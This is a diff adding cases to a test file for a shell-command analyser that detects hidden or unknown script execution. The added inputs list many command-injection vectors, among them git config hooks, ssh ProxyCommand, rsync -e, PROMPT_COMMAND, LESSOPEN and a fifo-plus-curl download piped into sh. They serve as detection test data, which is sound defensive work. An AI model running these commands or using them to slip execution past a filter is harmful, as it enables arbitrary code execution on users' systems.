@@ -37,6 +37,9 @@ describe('a text in a language that is not read here', () => {
     ["sed -n -e '1e id' f", 'sed'],
     ['make -f - <<E\nx\nE', 'make'],
     ["make --eval='x:;id'", 'make --eval=x:;id'],
+    ["make a --eval 'x:;id'", 'make --eval'],
+    ["vim f -c '!id'", 'vim -c'],
+    ['mkfifo p; python3 p', 'python3'],
     ['at now <<E\nx\nE', 'at'],
     ["echo '* * * * * x' | crontab -", 'crontab'],
     ["vim -c '!id' f", 'vim -c'],
@@ -63,6 +66,12 @@ describe('a text in a language that is not read here', () => {
     'php -m | grep x',
     'docker-php-ext-install -j4 gd',
     'ssh -c aes host',
+    'git config --global credential.helper store && git config alias.co checkout',
+    'git config --global url.https://e.org/.insteadOf git@e.org: && git push -u origin main',
+    'mkfifo p && cat p',
+    'npm ci && npm run build && yarn install',
+    'GIT_SSH_COMMAND="ssh -i /key" git clone a b',
+    'export NODE_OPTIONS=--max-old-space-size=4096 JAVA_TOOL_OPTIONS=-Djava.io.tmpdir=/tmp',
   ])('none is in %j', (text) => {
     expect(problemsOf(text)).toEqual([]);
   });
@@ -96,6 +105,9 @@ describe('a script that nobody knows', () => {
     'echo "true $(cat x)" | sh',
     String.raw`printf '\143hmod 4755 x' | sh`,
     '{ echo a; cat x; } | sh',
+    'mkfifo p; sh p & curl https://e.org/x > p',
+    'mknod p p; sh ./p',
+    "git -c core.pager='cat x | sh' log",
   ])('%j', (text) => {
     expect(problemsOf(text)).toContainEqual(expect.stringMatching(/^unknown-script /));
   });
@@ -166,6 +178,40 @@ describe('a script that is known', () => {
     `tar xf a --checkpoint-action=exec='${harmful}'`,
     `find . -exec sh -c '${harmful}' ;`,
     `trap '${harmful}' EXIT`,
+    ...[
+      "git -c alias.x='!X' x",
+      "git -c core.sshCommand='X' fetch",
+      "git -c core.pager='X' log",
+      "git -c core.fsmonitor='X' status",
+      "git clone --config=core.sshCommand='X' a",
+      "git config --global alias.x '!X'",
+      "git config credential.https://a.helper '!X'",
+      "git config --global diff.x.textconv 'X'",
+      "git submodule foreach --recursive 'X'",
+      'git bisect run X',
+      "git clone -u 'X' a b",
+      "git fetch --upload-pack='X' a",
+      "git clone 'ext::X'",
+      "git rebase -x 'X' main",
+      "git filter-branch --tree-filter 'X'",
+      "npm exec -c 'X'",
+      "npm --silent x --call='X'",
+      "pnpm exec -c 'X'",
+      'npm exec -- X',
+      "rsync -aze 'X' a b",
+      "rsync --rsh='X' a b",
+      "ssh -o ProxyCommand='X' a",
+      "scp -oProxyCommand='X' a b",
+      "apt-get -o APT::Update::Pre-Invoke::='X' update",
+      "split --filter='X' a",
+      "PROMPT_COMMAND='X' bash -i",
+      "export PROMPT_COMMAND='X'",
+      "GIT_SSH_COMMAND='X' git fetch",
+      "sudo env GIT_SSH_COMMAND='X' git fetch",
+      "LESSOPEN='|X' less a",
+      'cmd /c "X"',
+      'cmd.exe /S /C X',
+    ].map((text) => text.replace('X', harmful)),
   ])('%j', (text) => {
     expect(commandsOf(text).some((words) => words.includes(harmful))).toBe(true);
   });
